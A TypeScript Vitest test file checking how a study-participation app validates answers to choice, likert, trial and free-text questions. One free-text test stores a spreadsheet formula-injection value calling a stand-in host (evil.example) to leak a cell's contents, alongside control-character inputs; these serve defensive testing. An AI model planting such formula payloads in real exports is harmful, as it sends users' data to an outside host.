import { describe, expect, it } from 'vitest';
import { itemSchema } from '@/lib/studies/study-schema';
import { parseAnswer } from '@/lib/participation/answer-schema';

const opts = [{ value: 'a', label: 'A' }, { value: 'b', label: 'B' }, { value: 'c', label: 'C' }];

describe('answer validation', () => {
  it('single choice: one known option', () => {
    const item = itemSchema.parse({ id: 'q', type: 'single-choice', prompt: 'p', options: opts });
    expect(parseAnswer(item, ['b'])).toEqual({ ok: true, value: 'b' });
    expect(parseAnswer(item, ['z'])).toEqual({ ok: false, message: 'Not an option of this question: z' });
    expect(parseAnswer(item, [])).toEqual({ ok: false, message: 'Please choose an answer.' });
    expect(parseAnswer(item, ['a', 'b'])).toEqual({ ok: false, message: 'Please choose only one answer.' });
  });

  it('multiple choice: bounds and duplicates', () => {
    const item = itemSchema.parse({ id: 'q', type: 'multiple-choice', prompt: 'p', options: opts, minSelected: 1, maxSelected: 2 });
    expect(parseAnswer(item, ['a', 'a', 'c'])).toEqual({ ok: true, value: ['a', 'c'] });
    expect(parseAnswer(item, ['a', 'b', 'c'])).toEqual({ ok: false, message: 'Please choose at most 2 options.' });
    expect(parseAnswer(item, [])).toEqual({ ok: false, message: 'Please choose at least one option.' });
  });

  it('image choice with zero allowed stores an empty selection', () => {
    const item = itemSchema.parse({
      id: 'q', type: 'image-choice', prompt: 'p', multiple: true, minSelected: 0, required: false,
      options: [{ value: 'x', src: 'faces:x.jpg', alt: 'x' }, { value: 'y', src: 'faces:y.jpg', alt: 'y' }],
    });
    expect(parseAnswer(item, [])).toEqual({ ok: true, value: [] });
  });

  it('a required multiple choice with minSelected 0 takes "none" as an answer; with 1 it still refuses it', () => {
    const images = [{ value: 'x', src: 'faces:x.jpg', alt: 'x' }, { value: 'y', src: 'faces:y.jpg', alt: 'y' }];
    // As in studies/demo.ts (older_than_40): required by default, "Select all that apply (or none)".
    const none = itemSchema.parse({ id: 'q', type: 'image-choice', prompt: 'p', multiple: true, minSelected: 0, options: images });
    expect(none.type === 'image-choice' && none.required).toBe(true);
    expect(parseAnswer(none, [])).toEqual({ ok: true, value: [] });
    expect(parseAnswer(none, ['y'])).toEqual({ ok: true, value: ['y'] });
    const atLeastOne = itemSchema.parse({ id: 'q', type: 'image-choice', prompt: 'p', multiple: true, minSelected: 1, options: images });
    expect(parseAnswer(atLeastOne, [])).toEqual({ ok: false, message: 'Please choose at least one option.' });
    const checkboxes = itemSchema.parse({ id: 'q', type: 'multiple-choice', prompt: 'p', options: opts, minSelected: 0 });
    expect(parseAnswer(checkboxes, [])).toEqual({ ok: true, value: [] });
    const twoAtLeast = itemSchema.parse({ id: 'q', type: 'multiple-choice', prompt: 'p', options: opts, minSelected: 2, required: false });
    expect(parseAnswer(twoAtLeast, ['a'])).toEqual({ ok: false, message: 'Please choose at least 2 options.' });
  });

  it('intruder and coherency trials take exactly one of their options', () => {
    const images = ['x', 'y', 'z'].map((v) => ({ value: v, src: `faces:${v}.jpg`, alt: v }));
    const intruder = itemSchema.parse({ id: 'q', type: 'intruder', prompt: 'p', probe: { layer: 'l', unit: '1' }, options: images, correct: 'z' });
    expect(parseAnswer(intruder, ['z'])).toEqual({ ok: true, value: 'z' });
    expect(parseAnswer(intruder, ['x', 'y'])).toEqual({ ok: false, message: 'Please choose only one answer.' });
    const coherency = itemSchema.parse({ id: 'q', type: 'coherency', prompt: 'p', probe: { layer: 'l', concept: 'c' }, images, options: opts });
    expect(parseAnswer(coherency, ['c'])).toEqual({ ok: true, value: 'c' });
    expect(parseAnswer(coherency, ['x'])).toEqual({ ok: false, message: 'Not an option of this question: x' });
  });

  it('likert: a point on the scale, stored as a number', () => {
    const item = itemSchema.parse({ id: 'q', type: 'likert', prompt: 'p', points: 7, anchors: { min: 'lo', max: 'hi' } });
    expect(parseAnswer(item, ['7'])).toEqual({ ok: true, value: 7 });
    expect(parseAnswer(item, ['8']).ok).toBe(false);
  });

  it('free text: trimmed, length-limited, optional when not required', () => {
    const item = itemSchema.parse({ id: 'q', type: 'free-text', prompt: 'p', maxLength: 5, required: false });
    expect(parseAnswer(item, ['  hi  '])).toEqual({ ok: true, value: 'hi' });
    expect(parseAnswer(item, [''])).toEqual({ ok: true, value: null });
    expect(parseAnswer(item, ['too long'])).toEqual({ ok: false, message: 'Please keep your answer under 5 characters (it has 8).' });
  });

  it('free text: refuses control characters by name, keeps tabs, stores line breaks as LF', () => {
    const item = itemSchema.parse({ id: 'q', type: 'free-text', prompt: 'p', required: false });
    expect(parseAnswer(item, ['a\u0000b'])).toEqual({ ok: false, message: 'Your answer contains control characters (e.g. NUL); please remove them.' });
    expect(parseAnswer(item, ['red\u001b[0m'])).toEqual({ ok: false, message: 'Your answer contains control characters (e.g. U+001B); please remove them.' });
    expect(parseAnswer(item, ['x\u007f'])).toEqual({ ok: false, message: 'Your answer contains control characters (e.g. DEL); please remove them.' });
    // Vertical tab and form feed are whitespace to trim(), but are refused rather than silently kept inside.
    expect(parseAnswer(item, ['a\u000bb']).ok).toBe(false);
    expect(parseAnswer(item, ['col1\tcol2'])).toEqual({ ok: true, value: 'col1\tcol2' });
    expect(parseAnswer(item, ['one\r\ntwo\rthree\nfour'])).toEqual({ ok: true, value: 'one\ntwo\nthree\nfour' });
    // A formula stays the participant's exact text; exports neutralise it (lib/analysis/csv-line.ts).
    expect(parseAnswer(item, ['=HYPERLINK("http://evil.example/?"&A1,"click")'])).toEqual({ ok: true, value: '=HYPERLINK("http://evil.example/?"&A1,"click")' });
    const short = itemSchema.parse({ id: 'q', type: 'free-text', prompt: 'p', maxLength: 7 });
    // The browser counts a line break as one character (its maxlength and the form's counter): so does the server.
    expect(parseAnswer(short, ['abc\r\ndef'])).toEqual({ ok: true, value: 'abc\ndef' });
  });
});
